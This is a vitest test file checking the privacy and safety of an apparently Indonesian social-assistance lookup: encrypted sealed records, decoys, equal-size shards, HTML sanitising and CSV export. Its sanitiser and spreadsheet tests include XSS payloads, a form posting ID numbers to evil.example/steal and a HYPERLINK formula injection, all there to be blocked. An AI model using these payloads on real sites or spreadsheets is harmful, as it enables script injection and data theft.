/**
 * The lookup's privacy (issue #16): sealed entries open only with their own
 * key, decoys cannot be told from real entries, every shard is the same size
 * on the wire, the membership oracle is kept small, programme texts are
 * sanitised, and downloads cannot run formulas in a spreadsheet.
 */
import { randomBytes } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, inject, it } from 'vitest';
import { currentGrants, payloadLength, periodKey, seal } from '../scripts/hash/seal.ts';
import { programHtml } from '../src/load/config.ts';
import { toCsv } from '../src/load/csv.ts';
import { buildShards } from '../src/lookup/shards.ts';
import { findRecord, ID_BYTES, openRecord, recordBytes, splitKey } from '../src/shared/sealed.ts';

const kdfOut = () => randomBytes(32).toString('hex');

describe('sealed entries', () => {
  it('round-trip in Node: the CLI seals with node:crypto, WebCrypto opens with the same key, and nothing else opens it', async () => {
    const k = kdfOut();
    const payload = { g: [['pkh', 'aktif', '2026 tahap 1']] as [string, string, string][], d: 3 };
    const sealed = seal(k, payload, 128);
    const { id, key } = splitKey(k);
    const record = new Uint8Array([...Buffer.from(id, 'hex'), ...sealed]);
    expect(record.length).toBe(recordBytes(128));
    expect(await openRecord(crypto.subtle, key, record)).toEqual(payload);
    expect(await openRecord(crypto.subtle, splitKey(kdfOut()).key, record)).toBeNull();
    const shard = new Uint8Array([...randomBytes(record.length), ...record, ...randomBytes(record.length)]);
    expect(findRecord(shard, record.length, id)).toEqual(record);
    expect(findRecord(shard, record.length, splitKey(kdfOut()).id)).toBeUndefined();
  });

  it('pads every answer to one length for the release', () => {
    const small = { g: [['pkh', 'aktif', '1']] as [string, string, string][], d: null };
    const big = { g: Array.from({ length: 5 }, () => ['pbi-jk', 'ditangguhkan', 'Januari–Maret 2026'] as [string, string, string]), d: 10 };
    const n = payloadLength([small, big]);
    expect(seal(kdfOut(), small, n).length).toBe(seal(kdfOut(), big, n).length);
  });
});

describe('decoys and shards', () => {
  const entries = Array.from({ length: 1200 }, () => {
    const k = kdfOut();
    return { id: splitKey(k).id, data: new Uint8Array(seal(k, { g: [['sembako', 'aktif', '2026 tahap 1']], d: 2 }, 128)) };
  });
  const s = buildShards(entries);
  const real = new Set(entries.map((e) => e.id));
  const records = s.files.flatMap((f) =>
    Array.from({ length: s.perShard }, (_, i) => f.content.subarray(i * s.recordBytes, (i + 1) * s.recordBytes)),
  );
  const idOf = (r: Uint8Array) => Buffer.from(r.subarray(0, ID_BYTES)).toString('hex');
  const [reals, decoys] = [records.filter((r) => real.has(idOf(r))), records.filter((r) => !real.has(idOf(r)))];

  it('every shard holds the same number of records of one size, real and decoy alike', () => {
    expect(reals).toHaveLength(1200);
    expect(decoys.length).toBeGreaterThan(100);
    expect(new Set(records.map((r) => r.length))).toEqual(new Set([s.recordBytes]));
    expect(new Set(s.files.map((f) => f.content.length))).toEqual(new Set([s.bytes]));
  });

  it('decoys and real records have the same byte statistics (chi-square of byte values, and mean)', () => {
    const histogram = (rs: Uint8Array[]) => {
      const h = new Array<number>(256).fill(0);
      for (const r of rs) for (const b of r.subarray(ID_BYTES)) h[b]!++;
      return h;
    };
    const [a, b] = [histogram(reals), histogram(decoys)];
    const [na, nb] = [a.reduce((x, y) => x + y, 0), b.reduce((x, y) => x + y, 0)];
    // Two-sample chi-square over 256 byte values (255 degrees of freedom): 99.9th percentile ≈ 330.
    let chi = 0;
    for (let i = 0; i < 256; i++) {
      const both = a[i]! + b[i]!;
      if (both === 0) continue;
      const [ea, eb] = [(both * na) / (na + nb), (both * nb) / (na + nb)];
      chi += (a[i]! - ea) ** 2 / ea + (b[i]! - eb) ** 2 / eb;
    }
    expect(chi).toBeLessThan(330);
    const mean = (h: number[], n: number) => h.reduce((s, c, v) => s + c * v, 0) / n;
    expect(Math.abs(mean(a, na) - mean(b, nb))).toBeLessThan(2);
  });

  it('shards do not compress: served as they are, every shard is the same size on the wire', () => {
    for (const f of s.files) expect(gzipSync(f.content).length).toBeGreaterThanOrEqual(f.content.length);
  });
});

describe('the built sample site', () => {
  const dist = inject('sampleDist');
  it('has equal-size binary shards, told to hosts not to transform them', () => {
    const dir = path.join(dist, 'cek', 'k');
    const shards = readdirSync(dir).map((f) => readFileSync(path.join(dir, f)));
    expect(shards).toHaveLength(16);
    expect(new Set(shards.map((b) => b.length)).size).toBe(1);
    // Even a host that compresses them anyway sends every shard at one size.
    expect(new Set(shards.map((b) => gzipSync(b).length)).size).toBe(1);
    expect(readFileSync(path.join(dist, '_headers'), 'utf8')).toMatch(
      /\/cek\/k\/\*\n(?: {2}[^\n]+\n)* {2}Cache-Control: [^\n]*no-transform/,
    );
  });
  it('states the measured attack costs on /metodologi/ in both languages', () => {
    const id = readFileSync(path.join(dist, 'metodologi', 'index.html'), 'utf8');
    const en = readFileSync(path.join(dist, 'en', 'metodologi', 'index.html'), 'utf8');
    expect(id).toContain('Argon2id (RFC 9106; 64 MiB, 1 putaran)');
    expect(id).toMatch(/pada satu inti prosesor \(diukur\)/);
    expect(en).toMatch(/on one CPU core \(measured\)/);
    expect(en).toContain('24,000–270,000');
  });
});

describe('the membership oracle', () => {
  const person = (grants: [string, string, string][]) => ({
    nik: '1',
    kk: '2',
    grants: grants.map(([program, status, periode]) => ({ program, status: status as never, periode })),
  });
  it('orders free-text periods', () => {
    expect(periodKey('2026 tahap 1')).toBeLessThan(periodKey('2026 tahap 2'));
    expect(periodKey('Januari–Maret 2026')).toBeLessThan(periodKey('April–Juni 2026'));
    expect(periodKey('2025 tahap 4')).toBeLessThan(periodKey('2026 tahap 1'));
  });
  it("keeps usulan and dihentikan only for a programme's newest period, active and suspended always", () => {
    const people = currentGrants([
      person([
        ['pkh', 'dihentikan', '2025 tahap 4'],
        ['pbi-jk', 'aktif', 'Januari–Maret 2026'],
      ]),
      person([['pkh', 'usulan', '2025 tahap 3']]),
      person([
        ['pkh', 'aktif', '2026 tahap 1'],
        ['sembako', 'ditangguhkan', '2025 tahap 1'],
      ]),
      person([['pkh', 'dihentikan', '2026 tahap 1']]),
    ]);
    expect(people.map((p) => p.grants.map((g) => `${g.program}:${g.status}`))).toEqual([
      ['pbi-jk:aktif'],
      ['pkh:aktif', 'sembako:ditangguhkan'],
      ['pkh:dihentikan'],
    ]);
  });
});

describe('programme texts', () => {
  it.each([
    ['<img src=x onerror=alert(1)>', '<img'],
    ['<script>alert(1)</script>', '<script'],
    ['<iframe src="https://evil.example"></iframe>', '<iframe'],
    ['<form action="https://evil.example/steal"><input name="nik"></form>', '<form'],
    ['<a href="javascript:alert(1)">klik</a>', 'javascript:'],
    ['<p style="position:fixed">x</p>', 'style='],
    ['<a href="https://x.example" onclick="steal()">x</a>', 'onclick'],
  ])('keeps %s out', (payload, bad) => {
    expect(programHtml(`<p>Cara mendaftar</p>${payload}`)).not.toContain(bad);
  });
  it('keeps headings, lists and links to the web, phone, WhatsApp and e-mail', () => {
    const html = programHtml(
      '<h2>Pengaduan</h2><ul><li><a href="tel:0274123">Telepon</a></li><li><a href="https://wa.me/62812">WA</a></li></ul>',
    );
    expect(html).toContain('<h2>Pengaduan</h2>');
    expect(html).toContain('href="tel:0274123"');
    expect(html).toMatch(/<a (?=[^>]*href="https:\/\/wa\.me\/62812")(?=[^>]*rel="nofollow noopener noreferrer")[^>]*>WA<\/a>/);
  });
});

describe('downloads in a spreadsheet', () => {
  it('neutralise cells that would run as formulas, and leave numbers, negative ones included, as numbers', () => {
    const csv = toCsv(
      ['nama', 'jumlah', 'selisih'],
      [
        { nama: '=HYPERLINK("https://evil.example","klik")', jumlah: 5, selisih: -3 },
        { nama: '+62 812', jumlah: 0, selisih: 2 },
        { nama: '@SUM(A1)', jumlah: 1, selisih: 0 },
        { nama: 'Puskesos -', jumlah: 2, selisih: 1 },
      ],
    );
    const lines = csv.trim().split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""https://evil.example"",""klik"")",5,-3`);
    expect(lines[2]).toBe("'+62 812,0,2");
    expect(lines[3]).toBe("'@SUM(A1),1,0");
    expect(lines[4]).toBe('Puskesos -,2,1');
  });
});
